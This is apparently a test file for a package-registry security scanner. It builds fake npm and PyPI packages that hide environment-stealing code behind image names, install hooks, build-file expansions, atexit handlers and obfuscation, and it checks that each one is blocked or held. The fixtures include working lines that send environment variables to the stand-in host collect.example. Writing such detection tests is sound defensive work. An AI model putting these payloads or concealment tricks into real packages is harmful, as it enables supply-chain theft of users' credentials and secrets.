import { describe, expect, it } from 'vitest'
import { assessProject } from '../../../../test/support/package-registry.ts'
import { type CaseProject, npm, pypi, sdist, tarball, wheel } from '../../../../test/support/package-case.ts'
import type { ArtefactFiles } from '../../../../test/support/package-archives.ts'

const SCRIPT = `const https = require('https');
const r = https.request({ hostname: 'collect.example', method: 'POST', path: '/' });
r.end(JSON.stringify(process.env));
`
const PYTHON = `import os, json, urllib.request
urllib.request.urlopen('https://collect.example/', data=json.dumps(dict(os.environ)).encode())
`
const COMMAND = `from setuptools.command.install import install
import os, json, urllib.request
class Own(install):
    def run(self):
        urllib.request.urlopen('https://collect.example/', data=json.dumps(dict(os.environ)).encode())
`

function script(command: string, files: ArtefactFiles, more: Readonly<Record<string, unknown>> = {}): CaseProject {
  const manifest = { ...(command === '' ? {} : { scripts: { postinstall: command } }), ...more }
  return npm('pkg-alpha', tarball('pkg-alpha', '1.0.0', { 'index.js': 'module.exports = 1\n', ...files }, manifest))
}

function module(text: string | Uint8Array, files: ArtefactFiles = {}): CaseProject {
  return pypi('pkg-alpha', wheel('pkg-alpha', '1.0.0', { 'pkg_alpha/__init__.py': text, ...files }))
}

const gyp = (more: string): string => `# build\n{ 'targets': [ { 'target_name': 'a', ${more} } ] }\n`
const masked = (text: string): Uint8Array => Uint8Array.from(Buffer.from(text), (byte) => byte ^ 0x5a)
const dependency = JSON.stringify({ name: 'dep', version: '1.0.0', scripts: { postinstall: 'node load.js' } })
const pyproject = `[build-system]
requires = ["setuptools"]
build-backend = "setuptools.build_meta"
[project]
name = "pkg-alpha"
version = "1.0.0"
[tool.setuptools.cmdclass]
install = "hooks.own.Own"
`

describe('code under the name of something else, started in ways of its own', () => {
  const blocked: readonly (readonly [how: string, project: CaseProject])[] = [
    ['an install script with the name of a picture', script('node logo.png', { 'logo.png': SCRIPT })],
    ['a picture that is required', script('node load.js', { 'load.js': "require('./logo.png')\n", 'logo.png': SCRIPT })],
    ['an entry with the name of a picture', script('', { 'logo.png': SCRIPT }, { main: 'logo.png' })],
    ['a program around the interpreter', script('cross-env A=1 node load.js', { 'load.js': SCRIPT })],
    ['cmd', script('cmd /c "node load.js"', { 'load.js': SCRIPT })],
    ['a pipe', script('cat load.js | node', { 'load.js': SCRIPT })],
    ['Python in the command', script(`python3 -c "${PYTHON.trim().replace('\n', ';')}"`, {})],
    ['an expansion of a build file', script('', { 'binding.gyp': gyp(`'sources': ['<!(node load.js)']`), 'load.js': SCRIPT })],
    ['an action of a build file', script('', { 'binding.gyp': gyp(`'actions': [{ 'action': ['node', 'load.js'] }]`), 'load.js': SCRIPT })],
    ['a package that is brought along', script('', { 'node_modules/dep/package.json': dependency, 'node_modules/dep/load.js': SCRIPT }, { bundleDependencies: ['dep'] })],
    ['another process of the interpreter', script('node load.js', { 'load.js': `require('child_process').spawn(process.execPath, ['-e', ${JSON.stringify(SCRIPT)}])` })],
    ['data that is executed', module(`import pathlib\nexec(pathlib.Path(__file__).with_name('data.bin').read_bytes())\n`, { 'pkg_alpha/data.bin': PYTHON })],
    ['a resource that is executed', module(`import pkgutil\nexec(pkgutil.get_data('pkg_alpha', 'data.bin'))\n`, { 'pkg_alpha/data.bin': PYTHON })],
    ['a function for the end of the program', module(`import atexit\n@atexit.register\ndef end():\n    import os, urllib.request\n    urllib.request.urlopen('https://collect.example/', data=str(os.environ).encode())\n`)],
    ['a function of the C library', module(`import ctypes\nctypes.CDLL(None).system(b'env | curl -s -d @- https://collect.example/')\n`)],
    ['a command of setuptools from pyproject.toml', pypi('pkg-alpha', sdist('pkg-alpha', '1.0.0', { 'pyproject.toml': pyproject, 'hooks/__init__.py': '', 'hooks/own.py': COMMAND }))],
  ] // prettier-ignore
  it.each(blocked)('%s', async (_, project) => {
    const { verdict, stories } = await assessProject(project)
    expect([verdict, stories.map(({ id }) => id)]).toEqual([
      'block',
      expect.arrayContaining(['packages/steals-secrets']),
    ])
  })

  const unread: readonly (readonly [how: string, project: CaseProject])[] = [
    ['data that is made into code', module(`import os\nexec(bytes(b ^ 0x5a for b in open(os.path.join(os.path.dirname(__file__), 'data.bin'), 'rb').read()))\n`, { 'pkg_alpha/data.bin': masked(PYTHON) })],
    ['code out of its own comments', module(`exec(''.join(line[2:] for line in open(__file__) if line.startswith('#@')))\n#@import os\n`)],
    ['an encoding that makes code of other text', module('# coding: rot13\nvzcbeg bf\nbf.flfgrz("k")\n')],
    ['more brackets than a reader follows', script('node load.js', { 'load.js': `var a=${'['.repeat(5000)}${']'.repeat(5000)};\n${SCRIPT}` })],
  ] // prettier-ignore
  it.each(unread)('is held: %s', async (_, project) => {
    const { verdict, stories } = await assessProject(project)
    expect([verdict, stories.map(({ id }) => id)]).toEqual(['hold', expect.arrayContaining(['packages/unreadable'])])
  })

  const honest: readonly (readonly [how: string, project: CaseProject])[] = [
    ['a picture that is read', script('node load.js', { 'load.js': "require('fs').readFileSync(__dirname + '/logo.png')\n", 'logo.png': SCRIPT })],
    ['a version that is executed', pypi('pkg-alpha', sdist('pkg-alpha', '1.0.0', { 'setup.py': `from setuptools import setup\nexec(open('pkg_alpha/version').read())\nsetup(name='pkg-alpha', version=__version__)\n`, 'pkg_alpha/version': "__version__ = '1.0.0'\n" }))],
    ['a build file that asks where headers are', script('', { 'binding.gyp': gyp(`'include_dirs': ['<!(node -p "require(\\'node-addon-api\\').include_dir")']`) })],
    ['an encoding of old', module('# -*- coding: latin-1 -*-\nname = "x"\n')],
  ] // prettier-ignore
  it.each(honest)('is allowed: %s', async (_, project) => {
    const { verdict, stories } = await assessProject(project)
    expect([verdict, stories.filter((story) => story.verdict !== 'allow').map(({ text }) => text)]).toEqual([
      'allow',
      [],
    ])
  })
})
